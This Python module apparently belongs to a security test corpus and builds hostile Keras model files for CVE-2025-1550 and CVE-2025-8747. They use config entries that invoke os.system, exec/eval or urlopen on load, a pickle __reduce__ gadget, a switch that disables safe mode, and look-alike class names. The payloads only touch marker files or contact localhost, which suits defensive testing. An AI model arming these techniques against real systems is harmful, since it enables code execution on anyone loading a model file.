"""What can a config name besides layers? Functions of any module, and gadgets inside Keras itself."""

from __future__ import annotations

import base64
import pickle
from collections.abc import Callable
from typing import Any

from hostile_corpus.artifact import Artifact, Effect, Traps
from hostile_corpus.keras_files import (
    Config,
    archive,
    bare,
    entrance,
    functional,
    hdf5,
    mapping,
    of,
    rescaling,
    sequential,
)
from hostile_corpus.payloads import lambda_value, writing

_STRANGER = ("custom_function", "custom_class", "unlisted_class")
_DENIED = "this Keras wants a class of its own with weights, and the old one calls it with nothing to run"

Arguments = Callable[[Traps, str], list[Any]]


def artifacts() -> list[Artifact]:
    """Imports of any module (CVE-2025-1550), gadgets (CVE-2025-8747) and programs of other frameworks."""
    return [
        _called("os-system", "os", "system", lambda t, n: [f"touch {t.marker(n)}"]),
        _called("posix-system", "posix", "system", lambda t, n: [f"touch {t.marker(n)}"]),
        _called("subprocess-popen", "subprocess", "check_call", lambda t, n: [["touch", str(t.marker(n))]]),
        _called(
            "builtins-exec", "builtins", "exec", lambda t, n: [f"open({str(t.marker(n))!r}, 'w').close()"]
        ),
        _called(
            "builtins-eval", "builtins", "eval", lambda t, n: [f"open({str(t.marker(n))!r}, 'w').close()"]
        ),
        _called("shutil-copy", "shutil", "copy", lambda t, n: [str(t.text), str(t.marker(n))], Effect.WRITES),
        _called(
            "urllib-request", "urllib.request", "urlopen", lambda t, n: [t.url(n), None, 2], Effect.CONNECTS
        ),
        _called("keras-get-file", "keras.utils", "get_file", lambda t, n: ["x", t.url(n)], Effect.CONNECTS),
        _nested_call(),
        _guard_switched_off(),
        _structural(
            "class-of-another-module", "keras/os-system-as-class", {"module": "os", "class_name": "system"}
        ),
        _structural("registered", "keras/registered-elsewhere", {"registered_name": "shop>Discount"}),
        _structural("submodule", "keras/class-inside-keras-src", {"module": "keras.src.utils.file_utils"}),
        _confused("keras/class-name-with-a-look-alike", "\uff2cambda"),
        _confused("keras/class-name-with-a-zero-width-space", "Dense\u200b"),
        _confused("keras/class-name-with-dots", "..Dense"),
        _confused("keras/class-name-is-a-list", ["Lambda"]),
        _confused("keras/class-name-is-a-dict", {"class_name": "Dense"}),
        _tfsm_layer(),
        _torch_wrapper(),
        _jax_layer(),
        *(_vocabulary(kind) for kind in ("StringLookup", "TextVectorization")),
        _vocabulary_in_hdf5(),
        *(_remote_vocabulary(scheme) for scheme in ("http", "gs")),
    ]


def _function(module: str, name: str) -> Config:
    return {
        "module": module,
        "class_name": "function",
        "config": name,
        "registered_name": name,
        "name": "gadget",
    }


def _called(
    name: str, module: str, function: str, arguments: Arguments, effect: Effect = Effect.RUNS_CODE
) -> Artifact:
    """A 'layer' that is a function, called with what its node says while the model is loaded."""
    full = f"keras/{name}"

    def build(traps: Traps) -> bytes:
        return archive(functional(_function(module, function), args=arguments(traps, full)))

    return Artifact(full, effect, build, _STRANGER, loader="old_keras")


def _nested_call() -> Artifact:
    full = "keras/os-system-in-functional-in-sequential"

    def build(traps: Traps) -> bytes:
        inner = functional(_function("os", "system"), "inner", args=[f"touch {traps.marker(full)}"])
        return archive(sequential(entrance(), inner))

    return Artifact(full, Effect.RUNS_CODE, build, _STRANGER, loader="old_keras")


def _guard_switched_off() -> Artifact:
    """First a call of what lifts ``safe_mode``, then a lambda, which safe mode would have stopped."""
    full = "keras/unsafe-mode-switched-on-by-the-model"

    def build(traps: Traps) -> bytes:
        switch = _function("keras.config", "enable_unsafe_deserialization") | {"name": "switch"}
        model = mapping(lambda_value(writing(traps, full)))
        model["config"]["layers"].insert(0, switch | {"inbound_nodes": [{"args": [], "kwargs": {}}]})
        return archive(model)

    return Artifact(full, Effect.RUNS_CODE, build, (*_STRANGER, "forbidden_layer"), loader="old_safe_keras")


def _structural(trick: str, full: str, changed: Config) -> Artifact:
    return Artifact(
        full,
        Effect.STRUCTURE,
        lambda _: archive(sequential(entrance(), rescaling() | changed)),
        _STRANGER,
        why=f"{trick}: {_DENIED}",
    )


def _confused(full: str, class_name: Any) -> Artifact:
    return Artifact(
        full,
        Effect.STRUCTURE,
        lambda _: archive(sequential(entrance(), rescaling() | {"class_name": class_name})),
        ("custom_class", "unlisted_class", "bad_config"),
        why="no class has this name; a reader that normalises names would find one",
    )


def _tfsm_layer() -> Artifact:
    full = "keras/tfsm-layer"

    def build(traps: Traps) -> bytes:
        layer = of("TFSMLayer", filepath=str(traps.saved_model), call_endpoint="serve")
        return archive(sequential(entrance(), layer))

    return Artifact(full, Effect.WRITES, build, ("forbidden_layer",))


def _torch_wrapper() -> Artifact:
    full = "keras/torch-module-wrapper"

    def build(traps: Traps) -> bytes:
        held = base64.b64encode(pickle.dumps(_Opens(str(traps.marker(full))))).decode()
        return archive(sequential(entrance(), of("TorchModuleWrapper", module=held)))

    return Artifact(full, Effect.RUNS_CODE, build, ("forbidden_layer",), loader="pickled")


class _Opens:
    """A pickle that opens a file for writing when it is read."""

    def __init__(self, path: str) -> None:
        self._path = path

    def __reduce__(self) -> tuple[Any, ...]:
        return open, (self._path, "w")


def _jax_layer() -> Artifact:
    return Artifact(
        "keras/jax-layer",
        Effect.STRUCTURE,
        lambda _: archive(sequential(entrance(), of("JaxLayer", call_fn="f", init_fn="g"))),
        ("forbidden_layer",),
        why="JAX is not installed here",
    )


def _vocabulary(kind: str) -> Artifact:
    full = f"keras/vocabulary-from-a-file-{kind.lower()}"
    more = {"standardize": "lower", "split": "whitespace", "ngrams": None} if kind[0] == "T" else {}

    def build(traps: Traps) -> bytes:
        layer = of(kind, vocabulary=str(traps.text), **more)
        return archive(sequential(entrance((1,), "string"), layer))

    return Artifact(full, Effect.READS, build, ("vocabulary_path",))


def _vocabulary_in_hdf5() -> Artifact:
    full = "hdf5/vocabulary-from-a-file"

    def build(traps: Traps) -> bytes:
        layer = of("StringLookup", vocabulary=str(traps.text))
        return hdf5(bare(sequential(entrance((1,), "string"), layer)))

    return Artifact(full, Effect.READS, build, ("vocabulary_path",))


def _remote_vocabulary(scheme: str) -> Artifact:
    full = f"keras/vocabulary-from-{scheme}"

    def build(traps: Traps) -> bytes:
        layer = of("StringLookup", vocabulary=f"{scheme}://127.0.0.1:{traps.port}/{full}")
        return archive(sequential(entrance((1,), "string"), layer))

    why = "this TensorFlow has no file system for it; one with it would fetch the file"
    return Artifact(full, Effect.STRUCTURE, build, ("vocabulary_path",), why=why)
